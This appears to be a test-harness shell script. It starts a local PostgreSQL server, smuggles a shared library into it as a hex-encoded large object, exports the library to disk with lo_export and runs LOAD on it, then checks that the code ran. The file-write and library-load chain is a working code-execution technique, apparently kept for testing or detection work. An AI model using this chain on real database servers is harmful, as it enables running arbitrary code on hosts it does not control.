#!/bin/sh
. /opt/case/case.sh

bin=$(ls -d /usr/lib/postgresql/*/bin)
mkdir -p /srv/pg /run/postgresql && chown postgres /srv/pg /run/postgresql
as() { setpriv --reuid postgres --regid postgres --clear-groups env HOME=/srv/pg "$@"; }
as "$bin/initdb" -D /srv/pg/data >/dev/null
as "$bin/pg_ctl" -D /srv/pg/data -l /srv/pg/log -w start >/dev/null
hex=$(od -An -v -tx1 /opt/tools/preload.so | tr -d ' \n')
printf "select lo_from_bytea(4321, decode('%s', 'hex'));\n" "$hex" | as psql -q -h /run/postgresql postgres >/dev/null
as psql -q -h /run/postgresql postgres -c "select lo_export(4321, '/srv/pg/poc.so')" >/dev/null
as psql -q -h /run/postgresql postgres -c "load '/srv/pg/poc.so'" 2>/dev/null || true
wait_for /tmp/reached
took_place
